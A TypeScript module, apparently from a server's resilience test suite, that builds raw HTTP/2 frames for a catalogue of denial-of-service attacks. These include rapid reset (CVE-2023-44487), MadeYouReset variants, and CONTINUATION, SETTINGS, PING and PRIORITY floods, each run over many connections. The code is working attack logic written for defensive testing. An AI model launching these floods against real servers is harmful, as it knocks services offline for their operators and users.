// HTTP/2 as no client speaks it: each attack is what its connections say, frame by frame.

import { Buffer } from 'node:buffer';

import {
  endHeaders,
  endStream,
  frame,
  frameType,
  headersFrame,
  resetFrame,
} from '../../support/http2-frames.ts';
import { flood, type Attack } from './attack.ts';
import type { Target } from './target.ts';

const [priority, ping, windowUpdate, continuation] = [2, 6, 8, 9];

/** In the order in which the table shows them. */
export const http2Attacks: Record<string, Attack> = {
  // CVE-2023-44487.
  'rapid reset': (target) =>
    streams(target, (id, head) => [head('GET', endStream), resetFrame(id, 8)]),
  // CVE-2025-8671 (MadeYouReset): the hub resets, so that no limit on the visitor's resets counts them.
  'made you reset, window of 0': (target) =>
    streams(target, (id, head) => [head('GET', endStream), update(id, 0)]),
  'made you reset, window overflow': (target) =>
    streams(target, (id, head) => [head('GET', endStream), update(id, 0x7fffffff)]),
  'made you reset, DATA behind the end': (target) =>
    streams(target, (id, head) => [head('GET', endStream), frame(frameType.data, 0, id, some)]),
  'made you reset, DATA over its length': (target) =>
    streams(target, (id, head) => [
      head('POST', 0, { 'content-length': '1' }),
      frame(frameType.data, 0, id, some),
    ]),
  'made you reset, own priority': (target) =>
    streams(target, (id, head) => [head('GET', endStream), prioritise(id, id)]),
  'CONTINUATION flood': (target) =>
    flood(target, {
      connections: 8,
      opening: headersFrame(1, request(target), endStream),
      burst: () => many(16, () => frame(continuation, 0, 1, headersBlock)),
    }),
  'SETTINGS flood': (target) =>
    flood(target, {
      connections: 8,
      burst: () =>
        many(512, () => frame(frameType.settings, 0, 0, Buffer.from('000400010000', 'hex'))),
    }),
  'PING flood': (target) =>
    flood(target, {
      connections: 8,
      burst: () => many(512, () => frame(ping, 0, 0, Buffer.alloc(8))),
    }),
  'PING flood, answers not read': (target) =>
    flood(target, {
      connections: 8,
      isDeaf: true,
      burst: () => many(512, () => frame(ping, 0, 0, Buffer.alloc(8))),
    }),
  'empty DATA': (target) =>
    flood(target, {
      connections: 8,
      opening: headersFrame(1, request(target, 'POST', '/upload')),
      burst: () => many(512, () => frame(frameType.data, 0, 1, Buffer.alloc(0))),
    }),
  'PRIORITY flood': (target) =>
    flood(target, {
      connections: 8,
      burst: (round) => many(512, (at) => prioritise(2 * ((round * 512 + at) % 1e6) + 1, 0)),
    }),
  'a head of 10,000 fields': (target) =>
    flood(target, {
      connections: 8,
      everyMs: 100,
      burst: (round) => tinyFields(target, 2 * round + 1),
    }),
  'window of 0, 100 films': (target) =>
    flood(target, { connections: 8, opening: Buffer.concat([noWindow, films(target)]) }),
  'films asked for, nothing read, asked on': (target) =>
    flood(target, {
      connections: 8,
      isDeaf: true,
      opening: Buffer.concat([wideWindow, films(target)]),
      burst: () => many(64, () => frame(ping, 0, 0, Buffer.alloc(8))),
      everyMs: 5,
    }),
  'uploads, answers not read': (target) =>
    flood(target, {
      connections: 8,
      isDeaf: true,
      opening: Buffer.concat([
        wideWindow,
        films(target),
        headersFrame(201, request(target, 'POST', '/upload')),
      ]),
      burst: () => frame(frameType.data, 0, 201, Buffer.alloc(16_000)),
      everyMs: 5,
    }),
  'a head that never ends': (target) =>
    flood(target, {
      connections: 50,
      everyMs: 500,
      opening: headersFrame(1, request(target), endStream),
      burst: () => frame(continuation, 0, 1, Buffer.from([0, 1, 0x78, 1, 0x79])),
    }),
};

type Head = (method: string, flags: number, more?: Record<string, string>) => Buffer;

/** Stream after stream, fifty in a burst. */
function streams(target: Target, say: (id: number, head: Head) => Buffer[]) {
  return flood(target, {
    connections: 8,
    burst: (round) =>
      many(50, (at) => {
        const id = 2 * (round * 50 + at) + 1;
        return Buffer.concat(
          say(id, (method, flags, more) =>
            headersFrame(id, { ...request(target, method), ...more }, endHeaders | flags),
          ),
        );
      }),
  });
}

function request(target: Target, method = 'GET', path = '/small'): Record<string, string> {
  return { ':method': method, ':scheme': 'https', ':path': path, ':authority': authority(target) };
}

export function authority({ serverName, port }: Target): string {
  return `${serverName}:${port}`;
}

/** A hundred requests for more than anybody reads. */
function films(target: Target): Buffer {
  return many(100, (at) =>
    headersFrame(2 * at + 1, request(target, 'GET', '/big'), endHeaders | endStream),
  );
}

function tinyFields(target: Target, id: number): Buffer {
  const head = headersFrame(id, request(target), endStream);
  // Without a table, four bytes each: 10,000 of them in three frames.
  const fields = many(10_000, () => Buffer.from([0, 1, 0x78, 0]));
  const cuts = [0, 14_000, 28_000, fields.length];
  const frames = cuts
    .slice(1)
    .map((end, at) =>
      frame(continuation, at === 2 ? endHeaders : 0, id, fields.subarray(cuts[at], end)),
    );
  return Buffer.concat([head, ...frames]);
}

function many(count: number, make: (at: number) => Buffer): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, at) => make(at)));
}

function update(id: number, increment: number): Buffer {
  const payload = Buffer.alloc(4);
  payload.writeUInt32BE(increment);
  return frame(windowUpdate, 0, id, payload);
}

function prioritise(id: number, on: number): Buffer {
  const payload = Buffer.alloc(5);
  payload.writeUInt32BE(on);
  return frame(priority, 0, id, payload);
}

const some = Buffer.from('some bytes');
/** A field of 1,000 bytes, again and again: the whole of a CONTINUATION. */
const headersBlock = many(16, () =>
  Buffer.concat([Buffer.from([0, 1, 0x78, 0x7f, 0xe9, 0x06]), Buffer.alloc(1000, 'y')]),
);
/** SETTINGS_INITIAL_WINDOW_SIZE: nothing, and all there is. */
const noWindow = frame(frameType.settings, 0, 0, Buffer.from('000400000000', 'hex'));
const wideWindow = Buffer.concat([
  frame(frameType.settings, 0, 0, Buffer.from('00047fffffff', 'hex')),
  update(0, 0x7fff0000),
]);
